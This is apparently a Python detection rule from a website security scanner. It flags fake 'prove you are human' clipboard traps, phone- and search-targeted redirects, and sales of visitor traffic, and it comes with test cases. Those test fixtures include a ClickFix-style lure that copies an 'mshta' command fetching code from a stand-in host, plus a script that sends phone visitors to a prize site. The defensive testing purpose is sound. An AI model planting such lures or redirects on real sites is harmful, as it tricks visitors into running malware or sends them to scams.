"""No page lures visitors into a trap or sells them on.

## What it does
Reads the scripts and words of the front page, and of the further pages of this visit, for false tests
of humanity that put a command on the clipboard ("press Win+R"), for notifications demanded as the price
of going on, for code that forwards phones or whoever comes from a search to a stranger, also where the
address is packed or kept in a variable, for code that turns any click or the way back to one, and for
forwarding to markets of visitors. It also compares where a visitor, a robot and a phone are led.

## Why it matters
Who breaks into a site sells its visitors: they end at malware, false prizes and subscriptions, while
the office sees nothing unusual, since it neither comes by phone nor from a search.

## How to fix
Take the code out, find how it came in, rebuild from a clean source and change all passwords.

## Limits
Nothing is run and no stranger's page is opened. A redirect that is drawn by chance, or shown once to each
visitor, may not be met. Redirects to hosts with a word of gambling in their name are CONTENT.GAMBLING's; where the name is only
like one, both may speak.

## References
OWASP, Unvalidated Redirects and Forwards; MITRE ATT&CK T1204.004 (malicious copy and paste); BSSN Regulation 1/2024.
"""

from typing import NamedTuple

from ronda.engine.artifacts import (
    HTTP_PHONE,
    HTTP_ROBOT,
    HTTP_VISITOR,
    INNER,
    INNER_PREFIX,
    PAGE_VISITOR,
    Failure,
    FailureKind,
    Hop,
    HttpArtifact,
    PageArtifact,
    View,
)
from ronda.engine.checks.contract import (
    Case,
    Evidence,
    Guidance,
    Meta,
    NotSeen,
    Outcome,
    Seen,
    Severity,
    Verdict,
    failed,
    passed,
)
from ronda.engine.checks.examples import URL, failure, http, page
from ronda.engine.checks.helpers import clip, own_answer, own_page
from ronda.engine.checks.legal import BSSN_INCIDENT
from ronda.engine.content.gambling_hosts import gambling_form
from ronda.engine.content.hosts import belongs, host_of
from ronda.engine.content.inner import UNSEEN, inner_pages
from ronda.engine.content.led_to import led_to
from ronda.engine.content.traps import Trap, sent_elsewhere, sold, trap_of
from ronda.engine.text import Text

META = Meta(
    id="CONTENT.REDIRECT",
    area="content",
    title=Text(
        "Pengunjung tidak dijebak atau dialihkan", "Visitors are neither trapped nor sent away"
    ),
    problem=Text(
        "Pengunjung dijebak atau dialihkan ke pihak lain",
        "Visitors are trapped or sent to a stranger",
    ),
    finding_class="malicious-redirect",
    severity=Severity.CRITICAL,
    needs=(HTTP_VISITOR,),
    also=(PAGE_VISITOR, HTTP_ROBOT, HTTP_PHONE, INNER),
    judges_failure=(HTTP_VISITOR,),
    legal=(BSSN_INCIDENT,),
    lifecycle="preview",
    urgent=True,
    guidance=Guidance(
        why=Text(
            "Pengunjung digiring ke perangkat perusak, hadiah palsu, atau langganan berbayar. Kantor "
            "sering tidak melihatnya, karena hanya terjadi pada ponsel atau dari mesin pencari.",
            "Visitors are led to malware, false prizes or paid subscriptions. The office often does "
            "not see it, since it happens only on phones or from search engines.",
        ),
        steps=(
            Text(
                "Simpan salinan berkas dan catatan akses, lalu laporkan ke tim CSIRT.",
                "Keep a copy of files and access logs and tell the CSIRT.",
            ),
            Text(
                "Hapus kode yang kami kutip; cari juga di .htaccess, tema, plugin, dan basis data.",
                "Delete the code that we quote; look in .htaccess, themes, plug-ins and the database too.",
            ),
            Text(
                "Pasang ulang dari sumber bersih dan ganti semua kata sandi.",
                "Rebuild from a clean source and change every password.",
            ),
        ),
        see_for_yourself=Text(
            "Cari nama situs di mesin pencari dengan ponsel, lalu buka dari hasilnya; jangan mengikuti "
            "perintah apa pun.",
            "Search for the site's name on a phone and open it from the results; follow no instruction.",
        ),
    ),
)
_WHAT = {
    "captcha": Text(
        "Halaman {page} menyuruh pengunjung menjalankan perintah, berkedok uji bukan robot.",
        "The page {page} tells visitors to run a command, as if to prove that they are human.",
    ),
    "push": Text(
        "Halaman {page} memaksa pengunjung mengizinkan notifikasi.",
        "The page {page} forces visitors to allow notifications.",
    ),
    "phone": Text(
        "Halaman {page} mengalihkan ponsel atau pengunjung dari mesin pencari ke pihak lain.",
        "The page {page} sends phones, or visitors from search engines, to a stranger.",
    ),
    "click": Text(
        "Halaman {page} membelokkan setiap klik, atau tombol kembali, ke pihak lain.",
        "The page {page} turns every click, or the way back, to a stranger.",
    ),
    "sale": Text(
        "Halaman {page} mengalihkan pengunjung ke bursa iklan.",
        "The page {page} sends visitors to a market of advertisements.",
    ),
}


def judge(seen: Seen) -> Verdict:
    """Judge where visitors are led and what they are told to do; see the manual page above."""
    led = _led(seen)
    if led is not None:
        return led
    own = own_answer(seen)
    if isinstance(own, Verdict):
        return own
    front = seen.artifacts.get(PAGE_VISITOR)
    shown = front if isinstance(front, PageArtifact) else None
    if found := trap_of(own.body, shown, seen.site.host):
        return _accused(HTTP_VISITOR, "/", found)
    unseen: NotSeen | None = None
    for key, answer, inside in inner_pages(seen.artifacts):
        if isinstance(answer, Failure):
            unseen = unseen or (NotSeen(key, answer) if answer.kind in UNSEEN else None)
        elif inside is not None and (found := trap_of(answer.body, inside, seen.site.host)):
            return _accused(key, key.removeprefix(INNER_PREFIX), found)
    if unseen is not None:
        raise unseen  # it may be the very page on which the trap was found
    phone = seen.artifacts.get(HTTP_PHONE)
    if isinstance(phone, Failure) and phone.kind in UNSEEN:
        raise NotSeen(HTTP_PHONE, phone)  # where phones are led is not known
    own = own_page(seen)
    if isinstance(own, Verdict):
        return own
    return passed(
        Text(
            "Pengunjung tidak dijebak atau dialihkan.", "Visitors are neither trapped nor sent on."
        )
    )


def _led(seen: Seen) -> Verdict | None:
    """The verdict when the server itself sends phones or robots alone away, or sells all visitors."""
    usual = _sent(seen, HTTP_VISITOR)
    if usual and (sale := sold(usual.url, seen.site.host)):
        return _accused(HTTP_VISITOR, "/", Trap("sale", sale))
    there = host_of(seen.http().final_url)  # raises when the visitor's answer was not seen
    views: tuple[View, ...] = ("phone", "robot")
    for view in views:
        sent = _sent(seen, f"http:{view}")
        host = host_of(sent.url) if sent else ""
        if sent is None or belongs(host, there) or not sent_elsewhere(host, seen.site.host):
            continue
        form = gambling_form(host, seen.listed)
        if form is None or form.by != "word":
            return _accused(f"http:{view}", "/", Trap("phone", sent.shown))
    return None


class _Sent(NamedTuple):
    url: str  # where a view ends, or was to end
    shown: str  # the evidence


def _sent(seen: Seen, key: str) -> _Sent | None:
    """Where a view was led. Whether the stranger answers, or still exists, changes nothing."""
    got = seen.artifacts.get(key)
    if isinstance(got, HttpArtifact):
        return _Sent(got.final_url, f"{got.url} -> {got.final_url}")
    if isinstance(got, Failure) and (url := led_to(got)):
        return _Sent(url, f"{seen.site.url} -> {url} ({got.kind})")
    return None


def _accused(key: str, path: str, found: Trap) -> Verdict:
    where = Text("kode atau tujuan pengalihan", "the code, or where it leads")
    said = _WHAT[found.what].fill(page=clip(path)[:120])
    return failed(said, Evidence(key, where, clip(found.words)), confidence=0.9)


_CAPTCHA = (
    "<p>Verifikasi bahwa Anda bukan robot: tekan Win + R, lalu Ctrl + V dan Enter.</p><script>"
    "btn.onclick=()=>navigator.clipboard.writeText('mshta https://uji-manusia.example/v')</script>"
)
_COPY = "<script>b.onclick=()=>navigator.clipboard.writeText(location.href)</script>"
_APP = (
    "<script>if(/android/i.test(navigator.userAgent))location.href="
    "'https://play.google.com/store/apps/details?id=id.go.contoh'</script>"
)
_PHONE = (
    "<script>if(/android|iphone/i.test(navigator.userAgent)&&document.referrer.indexOf('google')>0)"
    "location.replace('https://hadiah-harian.example/m')</script>"
)
_AWAY = "https://hadiah-harian.example/m"

CASES = (
    Case("A living site", {HTTP_VISITOR: http(), PAGE_VISITOR: page()}, Outcome.PASS),
    Case(
        "A button that copies the page's address",
        {HTTP_VISITOR: http(_COPY), PAGE_VISITOR: page()},
        Outcome.PASS,
    ),
    Case(
        "Phones are sent to the office's application in a shop",
        {HTTP_VISITOR: http(_APP), PAGE_VISITOR: page("Jadwal posyandu bulan ini. " * 12)},
        Outcome.PASS,
    ),
    Case(
        "A false test of humanity",
        {
            HTTP_VISITOR: http(_CAPTCHA),
            PAGE_VISITOR: page("Verifikasi bahwa Anda bukan robot: tekan Win + R, lalu Ctrl + V."),
        },
        Outcome.FAIL,
        says="bukan robot",
    ),
    Case(
        "Phones from a search are sent away by a script",
        {HTTP_VISITOR: http(_PHONE), PAGE_VISITOR: page()},
        Outcome.FAIL,
        says="ponsel",
    ),
    Case(
        "Phones are sent away by the server",
        {
            HTTP_VISITOR: http(),
            PAGE_VISITOR: page(),
            HTTP_PHONE: http(final_url=_AWAY, view="phone", hops=(Hop(URL, "", 302, _AWAY),)),
        },
        Outcome.FAIL,
        says="ponsel",
    ),
    Case(
        "Phones are sent to a stranger whose name does not exist any more",
        {
            HTTP_VISITOR: http(),
            PAGE_VISITOR: page(),
            HTTP_PHONE: failure(FailureKind.NXDOMAIN, "dns", "hadiah-harian.example", _AWAY),
        },
        Outcome.FAIL,
        says="ponsel",
    ),
    Case(
        "Phones are sent to a stranger who refuses the connection",
        {
            HTTP_VISITOR: http(),
            PAGE_VISITOR: page(),
            HTTP_PHONE: failure(FailureKind.REFUSED, "connect", "198.18.0.7:443", _AWAY),
        },
        Outcome.FAIL,
        says="ponsel",
    ),
    Case(
        "Phones are sent to an address within somebody's network",
        {
            HTTP_VISITOR: http(),
            PAGE_VISITOR: page("Jadwal posyandu bulan ini. " * 12),
            HTTP_PHONE: failure(
                FailureKind.BLOCKED_BY_POLICY, "dns", "10.1.2.3:80", "http://10.1.2.3/m/"
            ),
        },
        Outcome.PASS,
    ),
    Case(
        "Everybody is sold to a market that does not answer",
        {
            HTTP_VISITOR: failure(
                FailureKind.TIMEOUT, "http", "198.18.0.7:443", f"{_AWAY}?zoneid=71&clickid=a9"
            ),
        },
        Outcome.FAIL,
        says="bursa",
    ),
    Case(
        "Everybody is sold to a market",
        {
            HTTP_VISITOR: http(
                final_url="https://pasar-klik.example/?zoneid=71&clickid=a9",
                hops=(Hop(URL, "", 302),),
            ),
            PAGE_VISITOR: page(),
        },
        Outcome.FAIL,
        says="bursa",
    ),
    Case("No answer", {HTTP_VISITOR: failure(FailureKind.TIMEOUT)}, Outcome.NOT_MEASURED),
)
